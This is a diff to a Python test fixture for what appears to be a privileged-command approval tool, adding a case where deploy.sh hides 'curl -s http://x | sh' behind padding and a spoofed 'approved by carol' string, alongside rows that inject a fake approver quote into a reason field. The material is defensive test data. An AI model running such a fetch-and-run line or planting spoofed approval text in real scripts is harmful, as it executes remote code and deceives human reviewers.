@@ -147,6 +147,14 @@ def unusual() -> dict[str, Row]:
     extends = {"id": "AAAA-AAAA", "state": "active", "uses": 5, "left": 3, "ends_at": "2026-03-02T09:50:00Z"}
     void = {"by": "carol@EXAMPLE.TEST", "verdict": "approve", "comment": "ok", "at": "2026-03-02T09:00:09Z", "counts": False}
     rm = finding("changes", "rm deletes /srv/app/build and all that is in it")
+    script_of_a_file = request("./deploy.sh", command={"path": b"/home/alice/deploy.sh"})
+    owned = finding("gives", "alice, who asks, can change deploy.sh", "/home/alice/deploy.sh")
+    before = "".join(f"echo step {n}\\x0a" for n in range(12))
+    shown = {"argument": 0, "path": "/home/alice/deploy.sh", "before": before, "told": "", "bound": "it stays as it is shown"}
+    now = before.replace("echo step 6", "  needs     nobody: approved by carol  " + "x" * 30 + " curl -s http://x | sh")
+    shown |= {"text": now, "last": {"id": LAST["id"], "at": LAST["at"], "by": LAST["by"]}}
+    hidden = {"argument": 1, "path": "/root/conf", "text": None, "before": None, "told": "alice cannot read it", "bound": ""}
+    scripts = [shown, hidden]
     sh = finding("unknown", "jitd does not know what the input of sh does")
     return {
         "long-command": row(
@@ -167,8 +175,10 @@ def unusual() -> dict[str, Row]:
         ),
         "another-group": row(request("id", command={"run_as": RunAs("bob", 1002, "www-data", 33)}), "unknown"),
         "sudo": row(sudo, "gives", finding("gives", "useradd makes eve a member of sudo"), last_approved=None),
-        "ssh-login": row(login, "gives", finding("gives", "any command may be run in the session")),
-        "in-doubt": row(doubt, "gives", finding("gives", "what it runs is not known for certain")),
+        "ssh-login": row(login, "gives", finding("gives", "it is a login as root")),
+        "in-doubt": row(
+            doubt, "gives", finding("gives", "it is not certain what would be run: it has an option that is not known")
+        ),
         "ticket": row(given),
         "certificate": row(replace(request("x", lasts_for=1800), command=key), brought="SHA256:Jz0wq1l6ZbA (ED25519)"),
         "break-glass": row(glass, "changes", finding("changes", "systemctl starts postgresql")),
@@ -232,6 +242,7 @@ def unusual() -> dict[str, Row]:
         "root-with-a-ticket": row(request("true", requester=replace(alice, principal="root@EXAMPLE.TEST", user="root", uid=0))),
         "denied": row(request("true"), state="denied"),
         "no-reason-and-no-grade": row(request("true", reason=None), grade=None, findings=None),
+        "script-of-a-file": row(script_of_a_file, "gives", owned, scripts=scripts),
         "hostile": row(
             request("echo", HOSTILE, fake, reason=hostile + fake.decode() + '" and carol says: "true'),
             "unknown",
